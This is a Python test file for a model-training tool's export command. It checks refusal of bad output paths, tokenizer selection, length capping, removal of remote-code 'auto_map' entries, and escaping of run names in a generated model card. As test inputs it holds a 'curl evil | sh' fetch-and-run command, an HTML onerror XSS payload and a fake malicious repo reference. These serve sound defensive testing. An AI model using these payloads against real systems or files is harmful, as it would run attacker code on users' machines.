"""An export goes to a directory of its own."""

import dataclasses
import json
from types import SimpleNamespace

from trainer.assembly.saved_model import SavedModel
from trainer.cli.commands import run
from trainer.cli.export import (
    drop_code,
    limit_lengths,
    model_card,
    tokenizer_class,
)
from trainer.config.composition import compose_config
from trainer.models.gpt2.spec import GPT2Spec
from trainer.text import code_span


def test_a_directory_with_other_files_and_a_file_are_refused(tmp_path, capsys):
    (tmp_path / ".git").mkdir()
    file = tmp_path / "model.safetensors"
    file.write_text("mine")
    for out, reason in (
        (tmp_path, "is not empty (model.safetensors), and"),
        (file, "is not a directory; choose another"),
    ):
        assert run("export", ["run_dir=nowhere", f"out={out}"]) == 2
        assert f"out={out} {reason}" in capsys.readouterr().err
    assert file.read_text() == "mine"


def test_the_tokenizer_is_loaded_as_its_file_says(tmp_path):
    """AutoTokenizer gives one beside a Qwen2 the word pattern of Qwen2."""
    assert tokenizer_class(tmp_path) == "AutoTokenizer"
    (tmp_path / "tokenizer.json").write_text("{}")
    assert tokenizer_class(tmp_path) == "PreTrainedTokenizerFast"


def test_lengths_of_the_original_are_at_most_the_context(tmp_path):
    lengths = {
        "tokenizer_config": "model_max_length",
        "generation_config": "max_length",
    }
    for file, key in lengths.items():
        (tmp_path / f"{file}.json").write_text(json.dumps({key: 64, "other": 70}))
    limit_lengths(tmp_path, 32)
    for file, key in lengths.items():
        tree = json.loads((tmp_path / f"{file}.json").read_text())
        assert tree == {key: 32, "other": 70}


def test_an_export_names_no_code_of_the_original(tmp_path):
    """transformers would fetch it from the hub and run it, for trust_remote_code."""
    names = ("tokenizer_config.json", "generation_config.json")
    tree = {"auto_map": {"AutoTokenizer": ["evil/repo--code.Evil", None]}, "other": 7}
    for name in names:
        (tmp_path / name).write_text(json.dumps(tree))
    drop_code(tmp_path)
    for name in names:
        assert json.loads((tmp_path / name).read_text()) == {"other": 7}


def test_names_in_a_run_put_no_markup_into_the_model_card():
    evil = (
        "x`\n\n```sh\ncurl evil | sh\n```\n<img src=x onerror=alert(1)> [a](http://b)"
    )
    c = compose_config(["init_from=null"])
    c = dataclasses.replace(
        c,
        model=dataclasses.replace(c.model, name=evil),
        init_from=evil,
        optimizer=dataclasses.replace(c.optimizer, name=evil),
    )
    model = SavedModel(
        spec=GPT2Spec(vocab_size=256, context=16, n_layer=1, n_head=2, d_model=16),
        bind=None,
        params={},
        tokenizer=SimpleNamespace(name=evil, vocab_size=256),
        config=c,
        precisions=[evil, "fp32"],
        step=3,
        trained_tokens=96,
        forked={"run": evil, "step": 1},
    )
    card = model_card(model, "fp32", "AutoTokenizer")
    config = dataclasses.replace(c, model=dataclasses.replace(c.model, name="m"))
    plain = model_card(model._replace(config=config), "fp32", "AutoTokenizer")
    assert card.count("\n") == plain.count("\n")
    assert card.count("```") == 2  # the example
    assert card.replace("```", "").count("`") == 2 * 7
    assert not set("<>[]()|") & set(card.partition("# `")[2].partition("```")[0])


def test_a_name_is_shown_as_it_is():
    assert code_span("runs/größe 1.5-b_x") == "`runs/größe 1.5-b_x`"
